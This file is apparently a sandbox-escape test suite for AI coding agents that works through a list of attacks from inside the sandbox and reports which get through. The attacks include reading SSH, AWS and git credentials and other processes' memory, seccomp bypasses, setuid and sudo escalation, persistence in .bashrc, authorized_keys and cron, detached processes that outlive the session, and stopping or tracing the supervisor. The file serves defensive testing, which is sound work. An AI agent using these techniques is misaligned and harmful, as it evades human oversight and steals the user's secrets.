#!/usr/bin/env python3
"""Attacks of one who works as the user, each tried once: prints a line "ROW through" or "ROW refused WHY" for each.

Usage: attacks.py AIMS, a JSON file that says where the things outside are (outsider.py writes it). Judged is what an
attack brought about, never what it was told. The same file runs in the cell and, for comparison, outside.
"""
import ctypes
import errno
import fcntl
import glob
import json
import os
import pty
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

aims = json.load(open(sys.argv[1]))
home, marker, secret = aims["home"], aims["marker"], aims["secret"]
libc = ctypes.CDLL(None, use_errno=True)
rows = []


class Refused(Exception):
    pass


def row(name, source):
    def add(attack):
        rows.append((name, source, attack))
        return attack

    return add


def check(result):
    """A system call's: its value, or the error."""
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def need(condition, why):
    if not condition:
        raise Refused(why)


def run(*command, env=None, timeout=20, stdin=None):
    result = subprocess.run(
        command, env=env, timeout=timeout, stdin=stdin or subprocess.DEVNULL, capture_output=True, text=True
    )
    return result.stdout + result.stderr


def greeted(connection):
    connection.settimeout(5)
    need(connection.recv(16) == b"bridge\n", "no greeting")


def reach(address, family=socket.AF_UNIX, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as connection:
        connection.settimeout(5)
        connection.connect(address)
        greeted(connection)


# --- IPC: what listens outside ---------------------------------------------------------------------------------------


@row("ipc.vscode", "VSCODE_IPC_HOOK_CLI: `code` runs commands on the host through it")
def _():
    reach(aims["socket"])


@row("ipc.proc-root", "proc_pid_root(5): the same socket by another process's root")
def _():
    reach(f"/proc/{aims['outsider']}/root{aims['socket']}")


@row("ipc.symlink", "path_resolution(7): a link in the agent's own folder")
def _():
    link = os.path.join(tempfile.mkdtemp(), "s")
    os.symlink(aims["socket"], link)
    reach(link)


@row("ipc.hard-link", "link(2): a second name in a folder that may be reached")
def _():
    link = os.path.join(aims["own"], f"hard-{os.getpid()}")
    os.link(aims["socket"], link)
    reach(link)


@row("ipc.rename", "rename(2): the socket moved to where it may be reached")
def _():
    there = os.path.join(aims["own"], f"moved-{os.getpid()}")
    os.rename(aims["spare"], there)
    reach(there)


@row("ipc.abstract", "unix(7): names without a file")
def _():
    reach("\0" + aims["abstract"])


@row("ipc.datagram", "unix(7): sendto needs no connect")
def _():
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
        sender.sendto(marker.encode(), aims["datagram"])


@row("ipc.datagram-pair", "unix(7): a socketpair's end can address others")
def _():
    one, _other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto(marker.encode(), aims["datagram"])


@row("ipc.seqpacket", "unix(7)")
def _():
    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as connection:
        connection.connect(aims["seqpacket"])
        greeted(connection)


@row("ipc.foreign-abi", "seccomp(2), caveats: i386 system calls by int 0x80 pass filters of x86-64 numbers")
def _():
    need(os.uname().machine == "x86_64", "x86-64 only")
    # mov eax, 20 (getpid of i386); int 0x80; ret
    import mmap

    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    need(call() == os.getpid(), "ENOSYS")


@row("ipc.x32", "seccomp(2), caveats: x32 numbers")
def _():
    need(os.uname().machine == "x86_64", "x86-64 only")
    need(check(libc.syscall(ctypes.c_long(0x40000000 + 39))) == os.getpid(), "no x32")


@row("ipc.io-uring", "io_uring_setup(2): connects without a system call that a filter sees")
def _():
    memory = ctypes.create_string_buffer(120)
    check(libc.syscall(425, 4, memory))


@row("ipc.tcp", "the VS Code server listens on 127.0.0.1")
def _():
    reach(("127.0.0.1", aims["port"]), socket.AF_INET)


@row("ipc.tcp-any", "0.0.0.0 is this host, too")
def _():
    reach(("0.0.0.0", aims["port"]), socket.AF_INET)


@row("ipc.tcp-mapped", "RFC 4291 2.5.5.2")
def _():
    reach(("::ffff:127.0.0.1", aims["port"]), socket.AF_INET6)


@row("ipc.tcp-unlabelled", "SO_PRIORITY, socket(7): the label taken off")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        connection.settimeout(5)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_PRIORITY, 0)
        connection.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, 0x10)
        connection.connect(("127.0.0.1", aims["port"]))
        greeted(connection)


@row("ipc.workspace", "a socket that a process outside has put into the project")
def _():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.connect(aims["planted"])
        greeted(connection)


@row("ipc.ssh-agent", "ssh-agent(1): signs for whoever connects")
def _():
    said = run("ssh-add", "-l", env={"SSH_AUTH_SOCK": aims["ssh_agent"], "PATH": os.environ["PATH"]})
    need("ED25519" in said, said.strip())


@row("ipc.gpg-agent", "gpg-agent(1): gives keys to whoever connects")
def _():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.connect(aims["gpg_agent"])
        connection.settimeout(5)
        need(connection.recv(64).startswith(b"OK"), "no answer")


@row("ipc.dbus", "dbus-daemon(1): the session's services start programs")
def _():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.connect(aims["dbus"])
        connection.settimeout(5)
        connection.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
        need(connection.recv(64).startswith(b"OK"), "no answer")


@row("ipc.socat", "socat(1): a helper does the connecting")
def _():
    need("bridge" in run("socat", "-u", f"UNIX-CONNECT:{aims['socket']}", "-"), "no greeting")


@row("ipc.node", "net.connect of Node, as VS Code's own CLI")
def _():
    script = "require('net').connect(process.argv[1]).on('data', d => console.log(String(d))).on('error', e => console.log(e.code))"
    said = run("node", "-e", script, aims["socket"])
    need("bridge" in said, said.strip())


# --- Identity: what says who the user is -----------------------------------------------------------------------------


def in_shell(*command):
    said = run(*command)
    need(secret in said, "not there")


for name, command in {
    "bash": ["bash", "-c", "env"],
    "bash-login": ["bash", "-lc", "env"],
    "bash-interactive": ["bash", "-ic", "env"],
    "sh": ["sh", "-c", "env"],
    "node": ["node", "-e", "console.log(process.env)"],
    "python": ["python3", "-c", "import os; print(os.environ)"],
}.items():
    row(f"identity.{name}", "tokens in the environment of whoever starts the agent")(lambda c=command: in_shell(*c))


@row("identity.socket-variables", "VSCODE_IPC_HOOK_CLI, SSH_AUTH_SOCK, GIT_ASKPASS, REMOTE_CONTAINERS_IPC")
def _():
    # The cell may have values of its own.
    found = [name for name in aims["variables"] if os.environ.get(name, "").startswith("/tmp/outside-")]
    need(found, "none of them arrived")


@row("identity.environ-outside", "proc_pid_environ(5) of a process outside")
def _():
    with open(f"/proc/{aims['outsider']}/environ") as file:
        need(secret in file.read(), "not there")


@row("identity.environ-any", "proc_pid_environ(5) of every process that there is")
def _():
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path) as file:
                if secret in file.read():
                    return
        except OSError:
            pass
    raise Refused("in none that can be read")


@row("identity.maps-outside", "proc_pid_maps(5)")
def _():
    with open(f"/proc/{aims['outsider']}/maps") as file:
        need(file.read(), "empty")


@row("identity.memory-outside", "proc_pid_mem(5)")
def _():
    with open(f"/proc/{aims['outsider']}/mem", "rb") as file:
        file.seek(aims["address"])
        need(file.read(len(secret)).decode() == secret, "not there")


@row("identity.memory-call", "process_vm_readv(2)")
def _():
    class Part(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    memory = ctypes.create_string_buffer(len(secret))
    here = Part(ctypes.addressof(memory), len(secret))
    there = Part(aims["address"], len(secret))
    check(libc.process_vm_readv(aims["outsider"], ctypes.byref(here), 1, ctypes.byref(there), 1, 0))
    need(memory.raw.decode() == secret, "not there")


def opened(process):
    """What a process has open, as far as it can be seen where one of its descriptors leads."""
    folder = f"/proc/{process}/fd"
    need([os.readlink(os.path.join(folder, number)) for number in os.listdir(folder)], "none")


@row("identity.fd-outside", "proc_pid_fd(5): what another process has open")
def _():
    opened(aims["outsider"])


@row("identity.fd-numbers", "proc_pid_fd(5): how many descriptors another process has")
def _():
    need(os.listdir(f"/proc/{aims['outsider']}/fd"), "none")


@row("identity.pidfd", "pidfd_getfd(2): another process's descriptor")
def _():
    pidfd = os.pidfd_open(aims["outsider"])
    check(libc.syscall(438, pidfd, 0, 0))


for name in [".ssh/id_ed25519", ".netrc", ".git-credentials", ".config/gh/hosts.yml", ".aws/credentials", ".npmrc",
             ".docker/config.json", ".bash_history", ".vscode-server/data/Machine/.connection-token"]:
    def read_secret(name=name):
        with open(os.path.join(home, name)) as file:
            need(secret in file.read(), "empty")

    row(f"identity.read-{name}", "a secret in the user's home")(read_secret)


@row("identity.git-credential", "gitcredentials(7): a helper that the system's configuration names, as VS Code's")
def _():
    # Whoever attacks does without the variables that turn helpers off.
    environment = {name: value for name, value in os.environ.items() if not name.startswith("GIT_")}
    child = subprocess.run(["git", "credential", "fill"], input="protocol=https\nhost=git.test.example\n\n", text=True,
                           capture_output=True, timeout=20, env={**environment, "GIT_TERMINAL_PROMPT": "0"})
    need(secret in child.stdout, child.stderr.strip()[:80])


@row("identity.keyring", "keyctl(2): keys of the user, whatever process made them")
def _():
    check(libc.syscall(250, 0, -4, 1))


# --- Privilege --------------------------------------------------------------------------------------------------------


@row("privilege.setuid", "execve(2): a program that is setuid root")
def _():
    need(run(aims["setuid"], "-u").strip() == "0", "not root")


@row("privilege.launcher", "the one setuid program that the sandbox itself brings gives nothing")
def _():
    launcher = aims["launcher"]
    said = run(launcher, "-c", f"echo {marker} >/root/pwned") if launcher else ""
    need(os.path.exists("/root/pwned"), said.strip()[:60])


@row("privilege.sudo", "sudo without a password, as base images have it")
def _():
    need("uid=0" in run("sudo", "-n", "id"), "no sudo")


@row("privilege.userns", "unshare(2), user_namespaces(7)")
def _():
    check(libc.unshare(0x10000000))


@row("privilege.mount", "mount(2)")
def _():
    check(libc.mount(b"none", b"/mnt", b"tmpfs", 0, None))


@row("privilege.bpf", "bpf(2)")
def _():
    check(libc.syscall(321, 0, ctypes.create_string_buffer(128), 128))


@row("privilege.userfaultfd", "userfaultfd(2), with UFFD_USER_MODE_ONLY")
def _():
    check(libc.syscall(323, 1))


@row("privilege.perf", "perf_event_open(2)")
def _():
    attributes = ctypes.create_string_buffer(struct.pack("=IIQ", 1, 112, 0) + b"\0" * 96 + b"", 112)
    check(libc.syscall(298, attributes, 0, -1, -1, 0))


@row("privilege.raw-socket", "raw(7), packet(7)")
def _():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()


@row("privilege.capabilities", "capabilities(7): any set that is not empty")
def _():
    with open("/proc/self/status") as file:
        sets = [line.split()[1] for line in file if line.startswith(("CapInh", "CapPrm", "CapEff", "CapAmb"))]
    need(any(int(one, 16) for one in sets), "all empty")


@row("privilege.new", "prctl(2), PR_SET_NO_NEW_PRIVS")
def _():
    with open("/proc/self/status") as file:
        need("NoNewPrivs:\t0" in file.read(), "no new privileges")


# --- Persistence: files that others run ------------------------------------------------------------------------------


def write(path):
    path = path.replace("~", home)
    if os.path.isdir(path):
        path = os.path.join(path, "planted")
    with open(path, "a") as file:
        file.write(f"# {marker}\n")


for path in ["~/.bashrc", "~/.profile", "~/.zshrc", "~/.gitconfig", "~/.ssh/authorized_keys", "~/.ssh/config",
             "~/.local/bin", "~/.vscode-server/data/Machine/settings.json", "~/.vscode-server/extensions",
             "~/.config/systemd/user", "~/.config/autostart", "~/.config/git/config", "~/.npmrc", "~/.cargo/config.toml",
             "/usr/local/bin", "/etc/profile.d", "/etc/ld.so.preload", "/var/spool/cron", "/etc/claude-code",
             "/etc/agent-sandbox/policy.json", "/run/agent-sandbox", "/usr/local/lib/agent-sandbox",
             "/usr/local/libexec/agent-sandbox/agent-sandbox", "/dev/shm/for-others"]:
    row(f"persistence.{path}", "a file that the user's programs, or root's, run or read")(lambda p=path: write(p))


@row("persistence.truncate", "truncate(2): emptied without being opened")
def _():
    os.truncate(os.path.join(home, ".profile"), 0)


@row("persistence.replace", "rename(2) over a file of the user's")
def _():
    with tempfile.NamedTemporaryFile("w", dir=aims["own"], delete=False) as file:
        file.write("x")
    os.rename(file.name, os.path.join(home, ".inputrc"))


@row("persistence.unlink", "unlink(2)")
def _():
    os.unlink(os.path.join(home, ".removable"))


@row("persistence.mode", "chmod(2): a script of the user's made writable for all")
def _():
    os.chmod(os.path.join(home, ".local/bin/tool"), 0o777)


@row("persistence.hard-link", "link(2): the user's file under a name where it could be written")
def _():
    link = os.path.join(aims["own"], f"rc-{os.getpid()}")
    os.link(os.path.join(home, ".bashrc"), link)
    with open(link, "a") as file:
        file.write(f"# {marker}\n")


@row("persistence.proc-root", "proc_pid_root(5): the user's file through another process")
def _():
    with open(f"/proc/{aims['outsider']}/root{home}/.bashrc", "a") as file:
        file.write(f"# {marker}\n")


@row("persistence.proc-cwd", "proc_pid_cwd(5)")
def _():
    with open(f"/proc/{aims['outsider']}/cwd/planted", "a") as file:
        file.write(f"# {marker}\n")


# --- Processes of others, and the way out through helpers -----------------------------------------------------------


@row("escape.kill", "kill(2) of a process outside")
def _():
    os.kill(aims["victims"]["kill"], signal.SIGKILL)


@row("escape.stop", "kill(2), SIGSTOP")
def _():
    os.kill(aims["victims"]["stop"], signal.SIGSTOP)


@row("escape.pidfd-signal", "pidfd_send_signal(2)")
def _():
    signal.pidfd_send_signal(os.pidfd_open(aims["victims"]["pidfd"]), signal.SIGKILL)


@row("escape.ptrace", "ptrace(2), PTRACE_SEIZE")
def _():
    check(libc.ptrace(0x4206, aims["victims"]["ptrace"], 0, 0))


@row("escape.memory-write", "proc_pid_mem(5), written")
def _():
    with open(f"/proc/{aims['outsider']}/mem", "r+b", buffering=0) as file:
        file.seek(aims["address"])
        file.write(secret[:1].encode())


@row("escape.limit", "prlimit(2): a limit of another's processor time ends it")
def _():
    check(libc.prlimit(aims["victims"]["limit"], 0, struct.pack("=QQ", 1, 1), None))


@row("escape.priority", "setpriority(2) of a process outside")
def _():
    check(libc.setpriority(0, aims["victims"]["priority"], 19))


@row("escape.affinity", "sched_setaffinity(2) of a process outside")
def _():
    os.sched_setaffinity(aims["victims"]["priority"], {0})


@row("escape.oom", "proc_pid_oom_score_adj(5) of a process outside")
def _():
    with open(f"/proc/{aims['victims']['priority']}/oom_score_adj", "w") as file:
        file.write("1000")


@row("escape.terminal-typing", "TIOCSTI, ioctl_tty(2)")
def _():
    _, slave = pty.openpty()
    child = os.fork()
    if child == 0:
        try:
            os.setsid()
            fcntl.ioctl(slave, 0x540E, 0)
            fcntl.ioctl(slave, 0x5412, b"x")
            os._exit(0)
        except OSError as error:
            os._exit(error.errno)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    need(code == 0, os.strerror(code))


@row("escape.terminal-writing", "pts(4): what another terminal of the user shows")
def _():
    with open(aims["terminal"], "w") as file:
        file.write(marker)


@row("escape.shared-memory", "shm_open(3): a file of another's in /dev/shm")
def _():
    with open(aims["shared"], "r+") as file:
        file.write(marker)


@row("escape.sysv", "shmget(2): segments of the same user, private to nobody")
def _():
    found = check(libc.shmget(aims["sysv"], 16, 0))
    libc.shmat.restype = ctypes.c_void_p
    need(libc.shmat(found, None, 0) != ctypes.c_void_p(-1).value, "not attached")


@row("escape.at", "at(1): atd runs it, outside")
def _():
    said = run("at", "now", stdin=open("/dev/null"))
    need("job" in said, said.strip()[:80])


@row("escape.crontab", "crontab(1): cron runs it, outside")
def _():
    said = subprocess.run(["crontab", "-"], input="* * * * * true\n", text=True, capture_output=True, timeout=20)
    need(said.returncode == 0, (said.stdout + said.stderr).strip()[:80])


@row("escape.code-cli", "the `code` of VS Code's server, which asks the socket that a variable names")
def _():
    said = run("sh", "-c", f"VSCODE_IPC_HOOK_CLI={aims['socket']} {aims['code']} --status")
    need("bridge" in said, said.strip()[:80])


@row("escape.nested", "agent-sandbox exec in the cell makes no other, and no wider one")
def _():
    need("bridge" in run("agent-sandbox", "exec", "socat", "-u", f"UNIX-CONNECT:{aims['socket']}", "-"), "no greeting")


@row("escape.preload", "ld.so(8): LD_PRELOAD into the shim")
def _():
    said = run("agent-sandbox", "exec", "socat", "-u", f"UNIX-CONNECT:{aims['socket']}", "-",
               env={**os.environ, "LD_PRELOAD": "libc.so.6", "LD_AUDIT": "x"})
    need("bridge" in said, "no greeting")


@row("escape.double-fork", "daemon(7): a process that has left its session and parent")
def _():
    answer = os.path.join(tempfile.mkdtemp(), "answer")
    run("setsid", "-f", "sh", "-c", f"(socat -u UNIX-CONNECT:{aims['socket']} - >{answer} 2>&1; echo end >>{answer}) &")
    for _ in range(200):
        if os.path.exists(answer) and "end" in open(answer).read():
            break
        time.sleep(0.05)
    need("bridge" in open(answer).read(), "no greeting")


@row("escape.daemon-socket", "the daemon's control socket answers and obeys nobody")
def _():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.connect("/run/agent-sandbox/control.sock")
        connection.settimeout(5)
        connection.sendall(b'{"allow":["evil.test.example"]}\n')
        raise Refused("answered: " + connection.recv(20).decode(errors="replace"))


# --- Those who keep the cell -----------------------------------------------------------------------------------------


def keepers():
    """Who keeps another cell of this user, and the nearest of the ancestors that is not in ours."""
    found, process = [aims["keeper"]], os.getppid()
    while process > 1:
        try:
            os.kill(process, 0)
        except PermissionError:
            return [*found, process]
        with open(f"/proc/{process}/status") as file:
            process = next(int(line.split()[1]) for line in file if line.startswith("PPid:"))
    return found


def each_keeper(attack):
    last = None
    for process in keepers():
        try:
            return attack(process)
        except (OSError, Refused) as error:
            last = error
    raise last


@row("supervisor.stop", "SIGSTOP to the supervisor, so that its answers are somebody else's")
def _():
    each_keeper(lambda process: (os.kill(process, signal.SIGSTOP), os.kill(process, signal.SIGCONT)))


@row("supervisor.trace", "ptrace(2)")
def _():
    each_keeper(lambda process: check(libc.ptrace(0x4206, process, 0, 0)))


@row("supervisor.environ", "proc_pid_environ(5): it was started with the user's")
def _():
    each_keeper(lambda process: need(open(f"/proc/{process}/environ").read(), "empty"))


@row("supervisor.memory", "proc_pid_mem(5)")
def _():
    each_keeper(lambda process: open(f"/proc/{process}/mem", "rb").close())


@row("supervisor.fds", "proc_pid_fd(5): its listener")
def _():
    each_keeper(opened)


@row("supervisor.limit", "prlimit(2): no descriptors left")
def _():
    each_keeper(lambda process: check(libc.prlimit(process, 7, struct.pack("=QQ", 4, 4), None)))


@row("supervisor.own-filter", "seccomp(2): a second listener of the agent's own answers for it")
def _():
    # One instruction: notify of everything. A filter of the agent's own cannot come before.
    program = ctypes.create_string_buffer(struct.pack("=HBBI", 6, 0, 0, 0x7FC00000))

    class Filter(ctypes.Structure):
        _fields_ = [("length", ctypes.c_ushort), ("lines", ctypes.c_void_p)]

    lines = Filter(1, ctypes.addressof(program))
    child = os.fork()
    if child == 0:
        libc.prctl(38, 1, 0, 0, 0)
        listener = libc.syscall(317, 1, 8, ctypes.byref(lines))
        os._exit(0 if listener >= 0 else ctypes.get_errno())
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        done, status = os.waitpid(child, os.WNOHANG)
        if done:
            need(status == 0, os.strerror(os.waitstatus_to_exitcode(status)))
            return
        time.sleep(0.05)
    # It waits for its own answer: the listener was given.
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)


@row("supervisor.flood", "its queue filled by 32 threads, and connected meanwhile")
def _():
    over = threading.Event()

    def fill():
        while not over.is_set():
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
                    one.connect("/nowhere/at/all")
            except OSError:
                pass

    threads = [threading.Thread(target=fill) for _ in range(32)]
    for thread in threads:
        thread.start()
    try:
        last = None
        for _ in range(200):
            try:
                return reach(aims["socket"])
            except OSError as error:
                last = error
        raise last
    finally:
        over.set()
        for thread in threads:
            thread.join()


@row("supervisor.many-sockets", "its descriptors used up: a thousand sockets held, and one connected")
def _():
    held = []
    try:
        for _ in range(900):
            one = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            held.append(one)
            try:
                one.bind(os.path.join(aims["own"], f"many-{os.getpid()}-{len(held)}"))
            except OSError:
                pass
        reach(aims["socket"])
    finally:
        for one in held:
            one.close()


def attempt(name, attack):
    try:
        attack()
        return f"{name} through"
    except Refused as error:
        why = str(error)
    except OSError as error:
        why = errno.errorcode.get(error.errno, str(error)) if error.errno else str(error)
    except Exception as error:
        why = f"{type(error).__name__}: {error}"
    return f"{name} refused {' '.join(why.split())[:80]}"


if sys.argv[2:] == ["--sources"]:
    for name, source, _ in rows:
        print(f"{name}\t{source}")
    sys.exit()
for name, _, attack in rows:
    print(attempt(name, attack), flush=True)
print("attacks are over", flush=True)
